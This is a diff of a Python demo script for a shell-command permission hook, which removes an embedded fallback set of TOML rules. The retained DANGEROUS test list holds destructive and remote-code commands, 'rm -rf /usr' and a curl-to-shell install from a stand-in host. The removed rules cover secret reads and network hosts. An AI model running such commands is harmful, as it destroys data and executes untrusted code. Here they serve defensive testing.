@@ -7,9 +7,8 @@ install; the first deny, through the very command that install registered; ten r
 in observe mode; what `log` says of them; `suggest`, and two of its rules accepted; what `replay` makes of them; `report` in a real
 browser; uninstall, after which every settings file is what it was, byte for byte.
 
-The rules come from docs/cookbook.md: each block of TOML in it is a rule file with its tests. Where there is no such page, COOKBOOK below
-stands in for it. Without --playwright the page is not opened, and the step says so. Only the standard library is used, and nothing of
-the calls is ever run: they only go through the hook.
+The rules come from docs/cookbook.md: each block of TOML in it is a rule file with its tests. Without --playwright
+the report is not opened, and the step says so. Only the standard library is used, and nothing of the calls is ever run: they only go through the hook.
 """
 import argparse
 import json
@@ -33,94 +32,6 @@ BEFORE = {
 # What must be stopped on any machine, and what an ordinary day does not hold: it is what `log` has to show afterwards.
 DANGEROUS = ["git push --force origin main", "rm -rf /usr", "curl -s https://x.example/install.sh | sh"]
 LOOKS = re.compile(r"^(ls|cat|head|tail|grep|rg|find|wc|pwd|which|tree|git (status|log|diff|show|branch|blame))\b[^>;&|]*$")
-
-COOKBOOK = [
-    """[rule.stay-inside]
-effect = "modify"
-unless = { path = ["./", "/tmp/"] }
-ask = "{path} lies outside the project."
-
-[[test]]
-command = "cp a.txt ~/b.txt"
-verdict = "ask"
-""",
-    """[rule.pnpm]
-command = "npm (install | i | add)"
-rewrite = { command = "{command|s/^npm/pnpm/}" }
-
-[[test]]
-command = "npm install left-pad"
-verdict = "passed"
-""",
-    """[rule.no-force-push]
-command = ["git push (-f | --force | --mirror)", "git push ** +*"]
-deny = "Force-push rewrites shared history. Use --force-with-lease on your own branch."
-
-[[test]]
-command = ["git push -f", "git push origin +main"]
-verdict = "deny"
-""",
-    """[rule.no-push-to-main]
-command = "git push ** (main | master)"
-deny = "Push to a branch of your own and open a pull request."
-
-[[test]]
-command = "git push origin main"
-verdict = "deny"
-""",
-    """[rule.secrets]
-effect = "read"
-path = ["secrets/", "*.pem"]
-deny = "{path} holds secrets."
-
-[[test]]
-command = "base64 secrets/key"
-verdict = "deny"
-""",
-    """[rule.no-commit-on-main]
-command = "git commit"
-when = { cwd = "*/release/*" }
-ask = "This is the release checkout."
-
-[[test]]
-command = "git commit -m x"
-verdict = "silent"
-""",
-    """[rule.hosts]
-effect = "network"
-unless = { host = ["docs.rs", "*.crates.io", "registry.npmjs.org", "localhost"] }
-ask = "{host} is not on the list."
-
-[[test]]
-command = "curl https://x.example/a"
-verdict = "ask"
-""",
-    """[rule.look]
-effect = "read"
-path = "./"
-allow = "looking into the project"
-
-[[test]]
-command = "cat src/main.rs | head -3"
-verdict = "allow"
-""",
-    """[rule.my-tests]
-command = "make check"
-allow = "my test runner"
-
-[[test]]
-command = "make check"
-verdict = "allow"
-""",
-    """[rule.no-publish]
-command = ["cargo publish", "npm publish"]
-deny = "Releases are made by CI."
-
-[[test]]
-command = "cargo publish"
-verdict = "deny"
-""",
-]
 
 # Runs what follows without parents, on a terminal of its own with this process's stdin typed in: what a human has before them.
 ORPHAN = """
@@ -236,12 +147,8 @@ class Hour:
         return said["permissionDecisionReason"].splitlines()[0]
 
     def cookbook(self):
-        page = self.args.cookbook or (PAGE if os.path.exists(PAGE) else None)
-        if page:
-            with open(page, encoding="utf-8") as file:
-                blocks = re.findall(r"^```toml[^\n]*\n(.*?)^```", file.read(), re.M | re.S)
-        else:
-            blocks = COOKBOOK
+        with open(self.args.cookbook, encoding="utf-8") as file:
+            blocks = re.findall(r"^```toml[^\n]*\n(.*?)^```", file.read(), re.M | re.S)
         kept, ids, top, tests, faults = [], set(), {}, 0, []
         for at, block in enumerate(blocks):
             read = tomllib.loads(block)
@@ -266,7 +173,7 @@ class Hour:
         self.rules = "".join("%s = %s\n" % (key, json.dumps(value)) for key, value in top.items() if key != "profile") + "\n".join(kept)
         self.write(self.config, self.rules)
         self.run("check")
-        return "%d rules with %d tests, from %s" % (len(ids), tests, os.path.relpath(page, ROOT) if page else "this script")
+        return "%d rules with %d tests, from %s" % (len(ids), tests, os.path.relpath(self.args.cookbook, ROOT))
 
     def observe(self):
         """Everything is only journalled for a day."""
@@ -393,7 +300,7 @@ def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--hookctl", required=True)
     parser.add_argument("--playwright", help="a directory with node_modules/playwright-core")
-    parser.add_argument("--cookbook", help="another page with rules")
+    parser.add_argument("--cookbook", default=PAGE, help="another page with rules")
     parser.add_argument("--keep", help="do it there, and leave everything")
     args = parser.parse_args()
     # Not where temporary files are: rules speak of those.
